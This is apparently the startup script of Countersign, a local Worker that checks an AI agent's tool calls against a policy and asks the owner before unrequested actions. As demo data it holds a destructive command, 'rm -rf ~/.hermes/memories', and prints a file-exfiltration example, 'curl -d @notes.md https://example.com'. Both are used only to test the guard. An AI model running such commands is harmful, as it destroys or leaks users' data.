/** `npm start`: from an empty clone to a Worker that answers, with everything printed that a person needs to go on. */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { parseArgs } from "node:util";
import { client, must } from "./lib/client.mjs";
import { startClock } from "./lib/clock.mjs";
import { readDevVars } from "./lib/dev-vars.mjs";
import { findOrMakeHousehold, signInLink } from "./lib/household.mjs";
import { ensureInstalled } from "./lib/install.mjs";
import { mailIn } from "./lib/mail.mjs";
import { path } from "./lib/project.mjs";
import { aborted, bold, Complaint, cyan, dim, green, run, say, stopSignal, yellow } from "./lib/say.mjs";
import { isFree, migrate, startWorker } from "./lib/worker.mjs";

const DEFAULT_PORT = 8787;
const STATE = path(".wrangler", "state");
const HOUSEHOLD = path(".wrangler", "countersign.json");
const RUNNING = path(".wrangler", "running.json");

/** The call that is suggested to be tried first. */
const TRY = "rm -rf ~/.hermes/memories";
const USAGE = "Usage: npm start -- [--port N]";

await run(async () => {
  const port = readPort();
  const stopped = stopSignal();
  await refuseTaken(port);
  await ensureInstalled(stopped);
  const { OPERATOR_TOKEN: operator } = readDevVars(path(".dev.vars"));
  mkdirSync(path(".wrangler"), { recursive: true });
  say(dim("Starting …"));
  await migrate(STATE, stopped);
  // Until then what the Worker logs is about requests of our own.
  let welcomed = false;
  const worker = await startWorker({
    port,
    persistTo: STATE,
    onLine: (line) => welcomed && passOn(line),
    stopped,
  });
  const stopClock = startClock(worker.origin);
  try {
    writeFileSync(RUNNING, JSON.stringify({ pid: process.pid, port: worker.port }));
    const send = client(worker.origin);
    const { household, note } = await findOrMakeHousehold(send, operator, HOUSEHOLD).catch((error) => {
      throw new Complaint(
        `${error.message} If the database is from another version of Countersign, delete .wrangler/state and start again.`,
      );
    });
    if (note !== null) say(`${yellow("!")} ${note}`);
    const session = await openSession(send, household.key);
    const link = await signInLink(send, operator, household);
    welcome(worker.origin, household.key, session, link, await expected(send, household.key));
    welcomed = true;
    onEnter(async () => say(`\n  ${cyan(await signInLink(send, operator, household))}\n`));
    const ended = await Promise.race([worker.exited, aborted(stopped)]);
    if (stopped.aborted) return 0;
    throw new Complaint(
      `The Worker stopped by itself (${ended.signal ?? `exit code ${ended.code}`}). Its log is in .wrangler/logs. Start it again: npm start`,
    );
  } finally {
    rmSync(RUNNING, { force: true });
    process.stdin.destroy();
    stopClock();
    await worker.stop();
  }
});

function readPort() {
  let values;
  try {
    ({ values } = parseArgs({ options: { port: { type: "string", short: "p" } } }));
  } catch (error) {
    throw new Complaint(`${error.message.split(". ", 1)[0]}. ${USAGE}`);
  }
  const text = values.port ?? (process.env.PORT || String(DEFAULT_PORT));
  const port = Number(text);
  if (!/^\d+$/.test(text) || port < 1 || port > 65_535)
    throw new Complaint(`"${text}" is not a port from 1 to 65535. ${USAGE}`);
  return port;
}

/** Two Workers on one set of local objects would each believe that the order of things is theirs. */
async function refuseTaken(port) {
  const running = await runningHere();
  const free = await isFree(port);
  if (running !== null && (free || running.port === port))
    throw new Complaint(
      `Countersign already runs from this folder at http://localhost:${running.port} (process ${running.pid}). Stop it first.`,
    );
  if (!free)
    throw new Complaint(
      `Port ${port} is taken. Stop what uses it, or take another: npm start -- --port ${port === 65_535 ? DEFAULT_PORT : port + 1}`,
    );
}

/** The start that has not ended yet, or `null`. One that was killed leaves its file behind, but answers nothing. */
async function runningHere() {
  try {
    const running = JSON.parse(readFileSync(RUNNING, "utf8"));
    process.kill(running.pid, 0);
    const answer = await client(`http://localhost:${running.port}`)("GET", "/openapi.json");
    return answer.json?.info?.title === "Countersign" ? running : null;
  } catch {
    return null;
  }
}

/** A session to try things in, with this machine's own paths. */
async function openSession(send, key) {
  const session = `try-${new Date().toISOString().slice(0, 19).replaceAll(":", "")}`;
  const os = { darwin: "darwin", win32: "windows" }[process.platform] ?? "linux";
  await must(send, "PUT", `/v1/sessions/${session}`, {
    key,
    json: { platform: "cli", os, home: homedir(), cwd: process.cwd() },
  });
  return session;
}

/** What the suggested call will be answered, by the oath as it stands now. A dry run: it leaves no trace. */
async function expected(send, key) {
  const answer = await must(send, "POST", "/v1/oath/check", {
    key,
    json: { tool: "terminal", args: { command: TRY }, home: homedir() },
  });
  const { verdict, reasons } = answer.json.decision;
  const line = reasons.find((reason) => reason.cite !== undefined)?.cite.line;
  return `The verdict is "${verdict}"${line === undefined ? "" : `, by line ${line} of the oath`}.`;
}

function welcome(origin, key, session, link, answer) {
  say(`
  ${green("✓")} ${bold("Countersign")} answers at ${cyan(origin)}

  ${bold("Dashboard")}   ${cyan(link)}
              ${dim("signs the owner in once, within the hour; press Enter for a new link")}
  ${bold("Agent key")}   ${key}
  ${bold("API")}         ${cyan(`${origin}/docs`)}

  ${bold("Try it:")} may the agent delete what it remembers about you?

curl -s ${origin}/v1/sessions/${session}/decisions \\
  -H 'authorization: Bearer ${key}' -H 'content-type: application/json' \\
  -d '{"call_id":"'$(date +%s)'","tool":"terminal","args":{"command":"${TRY}"}}'

  ${dim(`${answer} Put any other command in its place.`)}
  ${dim("One that nobody asked for, such as curl -d @notes.md https://example.com, asks you:")}
  ${dim("a mail appears here, with the link by which you answer; then send the same call again.")}

  ${dim("Stop with Ctrl-C. What was recorded is kept in .wrangler; delete that folder to begin again.")}
`);
}

/** Of what wrangler prints, its log of every request is noise; a mail, a rebuild, a warning or an error is not. */
function passOn(line) {
  const mail = mailIn(line);
  if (mail !== null) return say(`\n${mail}\n`);
  if (line.trim() === "" || /^\[wrangler:info\] [A-Z]+ \/|^⎔ /.test(line)) return;
  say(`${dim("worker")} ${line}`);
}

function onEnter(act) {
  if (process.stdin.isTTY !== true) return;
  process.stdin.resume();
  process.stdin.on("data", () => act().catch((error) => say(`${yellow("!")} ${error.message}`)));
}
